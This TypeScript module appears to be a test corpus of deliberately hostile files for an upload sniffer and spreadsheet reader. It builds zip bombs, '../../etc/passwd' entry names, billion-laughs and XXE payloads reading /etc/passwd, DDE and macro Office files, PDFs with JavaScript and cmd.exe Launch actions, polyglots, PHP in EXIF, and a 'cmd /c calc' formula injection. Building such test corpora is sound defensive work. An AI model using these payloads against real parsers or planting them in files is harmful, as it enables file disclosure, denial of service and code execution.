import { deflateSync } from 'node:zlib';
import { docx, lyingZip, related, sheet, typed, xlsx } from './hostile-zip.js';

/** A file made in code; `as` is its name. `harmless`: may be accepted, because nothing here acts on it. */
export interface Hostile {
  readonly what: string;
  readonly as: string;
  readonly bytes: () => Buffer;
  readonly by: 'sniff' | 'sheet';
  readonly harmless?: true;
}

const text = (value: string): Buffer => Buffer.from(value);
const join = (...parts: readonly (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const spaces = (megabytes: number) => Buffer.alloc(megabytes * 1_000_000, ' ');
export const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const jpg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const gif = text('GIF89a\u0001\u0000\u0001\u0000');
const pdf = (inside: string) =>
  text(`%PDF-1.7\n1 0 obj<</Type/Catalog${inside}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
const packed = (objects: string, dictionary = '/Filter/FlateDecode') =>
  join(
    '%PDF-1.7\n2 0 obj<</Type/ObjStm/N 1/First 4',
    dictionary,
    '>>stream\n',
    deflateSync(objects),
    '\nendstream endobj\n%%EOF\n',
  );
const pictured = (width: number, height: number) => {
  const wide = Buffer.from(png);
  wide.writeUInt32BE(width, 16);
  wide.writeUInt32BE(height, 20);
  return wide;
};
const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "&a${n - 1};&a${n - 1};&a${n - 1};">`).join('')}]>`;
const xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const cells = (count: number) => Array.from({ length: count }, (_, n) => `<c r="A${n}"/>`).join('');
const entry = (name: string, bytes = text('x')) => ({ name, bytes });
const wide = (value: string) => Buffer.from(`\ufeff${value}`, 'utf16le');
const word = (value: string) => entry('word/document.xml', text(value));

const sniffed = (what: string, as: string, bytes: () => Buffer, harmless?: true): Hostile => ({
  what,
  as,
  bytes,
  by: 'sniff',
  ...(harmless && { harmless }),
});
const read = (what: string, bytes: () => Buffer, harmless?: true): Hostile => ({
  what,
  as: 'a.xlsx',
  bytes,
  by: 'sheet',
  ...(harmless && { harmless }),
});

const archives = (by: 'sniff' | 'sheet'): Hostile[] => {
  const office = by === 'sniff' ? docx : xlsx;
  const as = by === 'sniff' ? 'a.docx' : 'a.xlsx';
  const one = (what: string, bytes: () => Buffer): Hostile => ({ what: `${what} (${by})`, as, bytes, by });
  return [
    one('bomb', () => office(entry('big.xml', spaces(400)))),
    one('bomb of many entries', () => office(...Array.from({ length: 40 }, (_, n) => entry(`${n}.xml`, spaces(10))))),
    one('bomb whose directory lies', () => office({ ...entry('big.xml', spaces(200)), claims: 1000 })),
    one('local header lies about the size', () => office({ ...entry('big.xml', spaces(1)), localClaims: 10 })),
    one('local header lies about the name', () => office({ ...entry('a.xml'), localName: 'b.xml' })),
    one('overlapping entries', () => office(entry('a.xml', spaces(1)), { ...entry('b.xml', spaces(1)), overlaps: 3 })),
    one('the same name twice', () => lyingZip([entry('xl/workbook.xml'), entry('xl/workbook.xml')])),
    one('name that climbs', () => office(entry('../../etc/passwd'))),
    one('absolute name', () => office(entry('/etc/passwd'))),
    one('name with NUL', () => office(entry('a.xml\0.png'))),
    one('name with drive and backslash', () => office(entry('C:\\windows\\a.xml'))),
    one('encrypted entry', () => office({ ...entry('a.xml'), flags: 1 })),
    one('unknown packing', () => office({ ...entry('a.xml'), method: 99 })),
    one('too many entries', () => office(...Array.from({ length: 6000 }, (_, n) => entry(`${n}.xml`)))),
    one('cut in half', () => office(entry('big.xml', spaces(1))).subarray(0, 400)),
    one('laughs', () => office({ ...sheet('', laughs), name: by === 'sniff' ? 'word/document.xml' : sheet('').name })),
    one('XXE', () => office({ ...sheet('', xxe), name: by === 'sniff' ? 'word/document.xml' : sheet('').name })),
    one('XXE in UTF-16', () => office(entry('xl/styles.xml', wide(`<?xml version="1.0"?>${xxe}<a>&e;</a>`)))),
  ];
};

export const corpus: readonly Hostile[] = [
  ...archives('sniff'),
  ...archives('sheet'),
  sniffed('archives in archives', 'a.docx', () => docx(entry('word/embeddings/a.xlsx', xlsx(entry('b.zip', xlsx()))))),
  sniffed('bomb in an embedded workbook', 'a.docx', () =>
    docx(entry('word/embeddings/a.xlsx', xlsx(entry('b.xml', spaces(150))))),
  ),
  sniffed('macro', 'a.docx', () => docx(entry('word/vbaProject.bin'))),
  sniffed('macro under another name', 'a.docx', () =>
    docx(entry('word/x.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex'))),
  ),
  sniffed('macro by its type', 'a.docx', () => docx(typed('application/vnd.ms-word.document.macroEnabled.main+xml'))),
  sniffed('old macro sheet', 'a.xlsx', () => xlsx(entry('xl/macrosheets/sheet1.xml'))),
  sniffed('DDE', 'a.docx', () => docx(word('<w:instrText>DDEAUTO c:\\\\a.exe</w:instrText>'))),
  sniffed('template from elsewhere', 'a.docx', () =>
    docx(related('word/_rels/settings.xml.rels', 'attachedTemplate', 'http://x.example/a.dotm')),
  ),
  sniffed('picture from elsewhere', 'a.docx', () =>
    docx(related('word/_rels/document.xml.rels', 'image', 'http://x.example/a.png')),
  ),
  sniffed('linked workbook', 'a.xlsx', () =>
    xlsx(related('xl/externalLinks/_rels/a.xml.rels', 'externalLinkPath', '//x.example/a.xlsx')),
  ),
  sniffed(
    'link to click',
    'a.docx',
    () => docx(related('word/_rels/document.xml.rels', 'hyperlink', 'http://x.example')),
    true,
  ),
  sniffed('PDF with JavaScript', 'a.pdf', () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
  sniffed('PDF with a disguised name', 'a.pdf', () => pdf('/OpenAction<</S/J#61v#61Script/JS(1)>>')),
  sniffed('PDF that launches', 'a.pdf', () => pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')),
  sniffed('PDF with a file in it', 'a.pdf', () => pdf('/Names<</Embedded#46iles 3 0 R>>')),
  sniffed('PDF that sends forms', 'a.pdf', () => pdf('/AA<</O<</S/SubmitForm/F(http://x.example)>>>>')),
  sniffed('PDF with packed script', 'a.pdf', () => packed('1 0 <</S/JavaScript/JS(1)>>')),
  sniffed('PDF with packed script in disguise', 'a.pdf', () => packed('1 0 <</S/J#61vaScript/JS(1)>>')),
  sniffed('PDF packed twice', 'a.pdf', () => packed('1 0 <<>>', '/Filter[/ASCIIHexDecode/FlateDecode]')),
  sniffed('PDF with a packed bomb', 'a.pdf', () => packed(' '.repeat(60_000_000))),
  sniffed('PDF with packed objects under a password', 'a.pdf', () =>
    join(packed('1 0 <<>>'), 'trailer<</Encrypt 4 0 R>>'),
  ),
  sniffed('PDF behind HTML', 'a.pdf', () => join('<script>1</script>', pdf(''))),
  sniffed('PDF that is an archive too', 'a.pdf', () => join(pdf(''), xlsx())),
  sniffed('PDF cut off', 'a.pdf', () => pdf('').subarray(0, 20), true),
  sniffed('PNG with HTML behind', 'a.png', () => join(png, '<html><script>1</script>')),
  sniffed('PNG with an archive behind', 'a.png', () => join(png, xlsx())),
  sniffed('PNG of 10^18 pixels', 'a.png', () => pictured(1_000_000_000, 1_000_000_000)),
  sniffed('PNG cut off', 'a.png', () => png.subarray(0, 20)),
  sniffed('JPEG with an archive behind', 'a.jpg', () => join(jpg, xlsx())),
  sniffed('JPEG with PHP in its EXIF', 'a.jpg', () =>
    join(Buffer.from('ffd8ffe1001a', 'hex'), 'Exif\0\0<?php echo 1;?>', jpg.subarray(2)),
  ),
  sniffed(
    'JPEG with a place in its EXIF',
    'a.jpg',
    () => join(Buffer.from('ffd8ffe10010', 'hex'), 'Exif\0\0GPS 30,120', jpg.subarray(2)),
    true,
  ),
  sniffed('GIF with an archive behind', 'a.gif', () => join(gif, xlsx())),
  sniffed('GIF named PNG', 'a.png', () => gif),
  sniffed('SVG with script', 'a.svg', () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')),
  sniffed('SVG named PNG', 'a.png', () => text('<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>')),
  sniffed('HTML named PDF', 'a.pdf', () => text('<!doctype html><script>1</script>')),
  sniffed('program named PDF', 'a.pdf', () => join('MZ', Buffer.alloc(200))),
  sniffed('two extensions', 'a.pdf.html', () => pdf('')),
  sniffed('extension behind NUL', 'a.exe\0.pdf', () => join('MZ', Buffer.alloc(200))),
  sniffed('archive named DOCX', 'a.docx', () => lyingZip([entry('a.txt')])),
  sniffed('DOCX named XLSX', 'a.xlsx', () => docx()),
  sniffed('nothing', 'a.pdf', () => Buffer.alloc(0)),
  read('10^6 columns in XLSX', () => xlsx(sheet(`<row r="1">${cells(1_000_000)}</row>`))),
  read('10^6 rows in XLSX', () => xlsx(sheet('<row/>'.repeat(1_000_000)))),
  read('a million cells within rows and columns', () =>
    xlsx(sheet(`<row>${'<c><v>1</v></c>'.repeat(60)}</row>`.repeat(17_000))),
  ),
  read('a row far below', () => xlsx(sheet('<row r="999999999"><c r="A999999999"/></row>'))),
  read('shared strings without end', () =>
    xlsx(
      entry('xl/sharedStrings.xml', text(`<sst>${'<si><t>a</t></si>'.repeat(2_000_000)}</sst>`)),
      sheet('<row r="1"><c r="A1"><v>1</v></c></row>'),
    ),
  ),
  read('brackets without end', () => xlsx(sheet('<a>'.repeat(1_000_000)))),
  read(
    'a formula that calls a program',
    () => xlsx(sheet('<row r="1"><c r="A1"><f>cmd|\' /c calc\'!A0</f><v>1</v></c></row>')),
    true,
  ),
  read('10^6 columns in CSV', () => text('a,'.repeat(1_000_000))),
  read('10^6 rows in CSV', () => text('a,b\n'.repeat(1_000_000))),
  read('unclosed quote', () => text('a,"b\n1,2\n'.repeat(3) + 'x'.repeat(1_000_000))),
  read('NUL in CSV', () => join('a,b\n', 'x,y\n'.repeat(2000), 'a\0b,c\n')),
  read('NUL in UTF-16', () => wide('a,b\na\0b,c\n')),
  read('mixed encodings', () => join('姓名,b\n', Buffer.from('d0d5ff', 'hex'), ',x\n')),
  read('half a UTF-16 character', () => join(wide('a,b\n'), Buffer.from([0x00, 0xd8, 0x0a, 0x00]))),
  read('heads that are names of the language', () => text('__proto__,constructor,toString\n1,2,3\n'), true),
  read('old Excel', () => join(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600))),
];
